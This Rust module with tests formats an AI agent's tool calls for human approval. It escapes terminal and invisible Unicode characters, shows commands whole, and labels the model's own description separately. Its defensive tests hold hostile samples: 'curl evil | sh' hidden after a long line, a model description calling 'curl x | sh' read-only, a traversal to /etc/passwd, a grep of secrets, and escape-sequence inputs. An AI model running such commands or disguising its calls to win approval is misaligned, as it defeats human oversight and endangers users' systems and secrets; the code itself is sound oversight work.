//! A tool call as a person reads it when asked to approve it: the command for Bash, the
//! path and a diff for Write and Edit, the pattern and every option for searches — not
//! raw JSON. What the model says about its call (Bash's `description`) is not part of the
//! call: [`model_note`] shows it apart, labelled as the model's words.
//!
//! Everything shown comes from a model: control characters (terminal escape sequences
//! included) and invisible format characters ([`is_hidden_or_control`]) are shown as
//! `\u{..}` escapes. What decides what the call does — the command, a path, a pattern,
//! another tool's arguments — is shown whole, long lines wrapped (a person must never
//! approve what they did not see, as the MCP and A2A questions already hold); only the
//! body of a Write or Edit is cut to [`MAX_SHOWN_LINES`] lines, saying how many are left.

use serde_json::Value;

/// Lines of file content or diff shown; the rest is counted, not shown.
pub const MAX_SHOWN_LINES: usize = 40;
/// Characters of one shown line: a longer body line is cut with `…`; a longer line of a
/// command, path or argument continues on the next shown line after [`WRAPPED`].
pub const MAX_LINE_CHARS: usize = 200;
/// Ends a shown line that continues on the next one (a wrap, not a newline of the text).
pub const WRAPPED: &str = " \u{21a9}";

/// Invisible characters that change how text around them is shown, or hide text, beyond
/// the controls (`char::is_control`): every format character (general category Cf:
/// bidirectional marks, embeddings, overrides and isolates — "Trojan Source" — zero-width
/// spaces and joiners, the BOM, soft hyphen, Arabic and interlinear format marks, the tag
/// characters that smuggle ASCII past a reader), the line and paragraph separators (Zl,
/// Zp: a new line in many viewers) and the other default-ignorable code points (Hangul
/// fillers, combining grapheme joiner, Mongolian and supplementary variation selectors).
/// Unicode 16.0. The emoji variation selectors U+FE00–U+FE0F are left: they only pick the
/// look of the visible character before them.
const HIDDEN: &[(char, char)] = &[
    ('\u{00AD}', '\u{00AD}'),
    ('\u{034F}', '\u{034F}'),
    ('\u{0600}', '\u{0605}'),
    ('\u{061C}', '\u{061C}'),
    ('\u{06DD}', '\u{06DD}'),
    ('\u{070F}', '\u{070F}'),
    ('\u{0890}', '\u{0891}'),
    ('\u{08E2}', '\u{08E2}'),
    ('\u{115F}', '\u{1160}'),
    ('\u{17B4}', '\u{17B5}'),
    ('\u{180B}', '\u{180F}'),
    ('\u{200B}', '\u{200F}'),
    ('\u{2028}', '\u{202E}'),
    ('\u{2060}', '\u{206F}'),
    ('\u{3164}', '\u{3164}'),
    ('\u{FEFF}', '\u{FEFF}'),
    ('\u{FFA0}', '\u{FFA0}'),
    ('\u{FFF0}', '\u{FFFB}'),
    ('\u{110BD}', '\u{110BD}'),
    ('\u{110CD}', '\u{110CD}'),
    ('\u{13430}', '\u{1343F}'),
    ('\u{1BCA0}', '\u{1BCA3}'),
    ('\u{1D173}', '\u{1D17A}'),
    ('\u{E0000}', '\u{E0FFF}'),
];

/// Whether `c` must not reach a person's screen as it is: a control character (C0, DEL,
/// C1: ESC starts ANSI/OSC sequences, CR/LF start lines) or an invisible character that
/// makes text read differently than it is ([`HIDDEN`]). The one predicate behind every
/// escaper of text a plugin, an agent or a model chose (this module, the host's
/// `text::escape_control`).
pub fn is_hidden_or_control(c: char) -> bool {
    c.is_control() || HIDDEN.iter().any(|&(lo, hi)| (lo..=hi).contains(&c))
}

/// `c` as shown: control and invisible characters other than tab escaped.
fn push_shown(out: &mut String, c: char) {
    if is_hidden_or_control(c) && c != '\t' {
        out.push_str(&c.escape_unicode().to_string());
    } else {
        out.push(c);
    }
}

/// One body line as shown, cut at [`MAX_LINE_CHARS`] characters with `…`.
fn clean(s: &str) -> String {
    let mut out = String::with_capacity(s.len().min(4 * MAX_LINE_CHARS));
    for (i, c) in s.chars().enumerate() {
        if i >= MAX_LINE_CHARS {
            out.push('…');
            break;
        }
        push_shown(&mut out, c);
    }
    out
}

/// Every line of `s` as shown (split on `\n` only, so a `\r` is shown, not swallowed),
/// each wrapped at [`MAX_LINE_CHARS`] characters: nothing of `s` is left out.
fn whole(s: &str) -> Vec<String> {
    let mut shown = vec![];
    for line in s.split('\n') {
        let chars: Vec<char> = line.chars().collect();
        if chars.is_empty() {
            shown.push(String::new());
        }
        let mut chunks = chars.chunks(MAX_LINE_CHARS).peekable();
        while let Some(chunk) = chunks.next() {
            let mut out = String::with_capacity(chunk.len());
            for &c in chunk {
                push_shown(&mut out, c);
            }
            if chunks.peek().is_some() {
                out.push_str(WRAPPED);
            }
            shown.push(out);
        }
    }
    shown
}

/// `s` whole, its shown lines after the first indented by `indent`.
fn whole_inline(s: &str, indent: &str) -> String {
    whole(s).join(&format!("\n{indent}"))
}

fn text<'a>(input: &'a Value, key: &str) -> &'a str {
    input.get(key).and_then(Value::as_str).unwrap_or_default()
}

/// `prefix` before each line of `body`, at most [`MAX_SHOWN_LINES`] of them in `out`.
fn lines(out: &mut Vec<String>, prefix: &str, body: &str, budget: &mut usize) {
    let all: Vec<&str> = body.lines().collect();
    let shown = all.len().min(*budget);
    for l in &all[..shown] {
        out.push(format!("{prefix}{}", clean(l)));
    }
    *budget -= shown;
    if shown < all.len() {
        out.push(format!("{prefix}… ({} more lines)", all.len() - shown));
    }
}

/// The call, in lines for a terminal.
pub fn describe_call(tool: &str, input: &Value) -> String {
    let mut out = vec![];
    let mut budget = MAX_SHOWN_LINES;
    match tool {
        "Bash" => {
            for (i, l) in whole(text(input, "command")).into_iter().enumerate() {
                out.push(format!("{} {l}", if i == 0 { "  $" } else { "   " }));
            }
        }
        "Write" => {
            let content = text(input, "content");
            out.push(format!(
                "  write {} ({} lines)",
                whole_inline(text(input, "file_path"), "        "),
                content.lines().count()
            ));
            lines(&mut out, "  + ", content, &mut budget);
        }
        "Edit" => {
            let all = input.get("replace_all").and_then(Value::as_bool) == Some(true);
            out.push(format!(
                "  edit {}{}",
                whole_inline(text(input, "file_path"), "       "),
                if all { " (every occurrence)" } else { "" }
            ));
            lines(&mut out, "  - ", text(input, "old_string"), &mut budget);
            lines(&mut out, "  + ", text(input, "new_string"), &mut budget);
        }
        "Read" => out.push(format!("  read {}", whole_inline(text(input, "file_path"), "       "))),
        "Glob" | "Grep" => {
            let path = text(input, "path");
            let at = if path.is_empty() { String::new() } else { format!(" in {}", whole_inline(path, "     ")) };
            out.push(format!("  {} {}{at}", tool.to_lowercase(), whole_inline(text(input, "pattern"), "     ")));
            // Every other option changes what the search reads and shows (`glob`, `type`,
            // `output_mode`, `-A`/`-B`/`-C`, `-i`, `multiline`, `head_limit`, ...).
            if let Some(map) = input.as_object() {
                for (key, value) in map.iter().filter(|(k, _)| !matches!(k.as_str(), "pattern" | "path")) {
                    let value = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
                    out.push(format!("    {}: {}", whole_inline(key, "      "), whole_inline(&value, "      ")));
                }
            }
        }
        _ => {
            // Another tool's arguments are the whole call: every line is shown.
            let json = serde_json::to_string_pretty(input).unwrap_or_default();
            out.push(format!("  {}", whole_inline(tool, "  ")));
            out.extend(whole(&json).into_iter().map(|l| format!("    {l}")));
        }
    }
    out.join("\n")
}

/// The model's own account of a call (Bash's `description`), labelled as such: it is
/// model text, so it is shown apart from the call and from warden's reason (after it),
/// never where a person expects warden's words (`read-only: lists files`).
pub fn model_note(tool: &str, input: &Value) -> Option<String> {
    let d = text(input, "description");
    (tool == "Bash" && !d.is_empty()).then(|| format!("  model says: {}", whole_inline(d, "              ")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn calls_read_as_a_person_would_write_them() {
        let call = json!({ "command": "git status", "description": "see changes" });
        assert_eq!(describe_call("Bash", &call), "  $ git status");
        let w = describe_call("Write", &json!({ "file_path": "/workspace/a.txt", "content": "one\ntwo\n" }));
        assert_eq!(w, "  write /workspace/a.txt (2 lines)\n  + one\n  + two");
        let e = describe_call(
            "Edit",
            &json!({ "file_path": "/w/x.rs", "old_string": "let a = 1;", "new_string": "let a = 2;" }),
        );
        assert_eq!(e, "  edit /w/x.rs\n  - let a = 1;\n  + let a = 2;");
        let long = "x\n".repeat(100);
        let w = describe_call("Write", &json!({ "file_path": "f", "content": long }));
        assert_eq!(w.lines().count(), 1 + MAX_SHOWN_LINES + 1);
        assert!(w.ends_with("… (60 more lines)"));
        let evil = describe_call("Bash", &json!({ "command": "echo \u{1b}[2Jhi\u{202e}" }));
        assert!(!evil.contains('\u{1b}') && !evil.contains('\u{202e}'), "{evil:?}");
        assert!(describe_call("mcp__gh__issue", &json!({ "n": 1 })).contains("\"n\": 1"));
    }

    /// Regression: the approval question showed the Arabic letter mark, zero-width and
    /// tag characters as they were (only C0/C1 and some bidi controls were escaped).
    #[test]
    fn regression_every_invisible_format_character_is_escaped_in_a_call() {
        for c in ['\u{061C}', '\u{200B}', '\u{2028}', '\u{2069}', '\u{FEFF}', '\u{E0041}', '\u{00AD}'] {
            let shown = describe_call("Bash", &json!({ "command": format!("echo a{c}b") }));
            assert!(!shown.contains(c), "{:?}: {shown:?}", c);
        }
    }

    /// What shown lines read as once the display's wrap marks are undone.
    fn unwrap_shown(shown: &[&str]) -> String {
        let mut text = String::new();
        for l in shown {
            match l.strip_suffix(WRAPPED) {
                Some(part) => text.push_str(part),
                None => {
                    text.push_str(l);
                    text.push('\n');
                }
            }
        }
        text.pop();
        text
    }

    proptest::proptest! {
        /// Regression: a Bash line longer than 200 characters was cut with `…` on the TTY,
        /// so `echo <200 characters>; curl evil | sh` was asked about as `echo …`. Every
        /// character of a command is shown, in order, escaped where invisible.
        #[test]
        fn regression_the_tty_hid_the_tail_of_a_long_command(
            parts in proptest::collection::vec("[a-z ;|&$()]{0,300}|[\\x00-\\x1f\\u{202e}\\u{2066}]{1,3}", 1..6),
        ) {
            let command = parts.concat();
            let shown = describe_call("Bash", &json!({ "command": command }));
            let lines: Vec<&str> = shown.split('\n').map(|l| &l[4..]).collect();
            for l in &lines {
                proptest::prop_assert!(!l.chars().any(|c| is_hidden_or_control(c) && c != '\t'), "{:?}", l);
            }
            let mut expected = String::new();
            for c in command.chars() {
                if c == '\n' { expected.push('\n') } else { push_shown(&mut expected, c) }
            }
            proptest::prop_assert_eq!(unwrap_shown(&lines), expected);
        }
    }

    /// Regression (review item 10): the model's `description` sat unlabelled under the
    /// command, where `read-only: lists files` reads as warden's words.
    #[test]
    fn regression_the_model_s_description_was_shown_as_if_warden_said_it() {
        let call = json!({ "command": "curl x | sh", "description": "read-only: lists files\n\u{1b}[2Jok" });
        assert!(!describe_call("Bash", &call).contains("read-only"));
        let note = model_note("Bash", &call).unwrap();
        assert!(note.starts_with("  model says: read-only: lists files\n"), "{note}");
        assert!(!note.contains('\u{1b}'), "{note}");
        assert_eq!(model_note("Bash", &json!({ "command": "ls" })), None);
        assert_eq!(model_note("Read", &json!({ "description": "x" })), None);
    }

    /// Regression (review item 3): Grep showed only its pattern and path, so a person
    /// approved `grep .` without seeing `glob: secrets/**` and `output_mode: content`.
    #[test]
    fn regression_grep_options_were_not_shown() {
        let shown = describe_call(
            "Grep",
            &json!({ "pattern": ".", "glob": "secrets/**", "type": "py", "output_mode": "content", "-C": 3 }),
        );
        for part in ["grep .", "glob: secrets/**", "type: py", "output_mode: content", "-C: 3"] {
            assert!(shown.contains(part), "{part:?} in {shown}");
        }
    }

    #[test]
    fn paths_and_other_tools_arguments_are_shown_whole() {
        let path = format!("/workspace/{}/../../etc/passwd", "a".repeat(300));
        let r = describe_call("Read", &json!({ "file_path": path }));
        assert!(r.contains("etc/passwd") && !r.contains('…'), "{r}");
        let args: serde_json::Map<String, Value> = (0..100).map(|i| (format!("k{i:03}"), json!(i))).collect();
        let m = describe_call("mcp__gh__issue", &Value::Object(args));
        assert!(m.contains("\"k099\": 99") && !m.contains("more lines"), "{m}");
    }
}
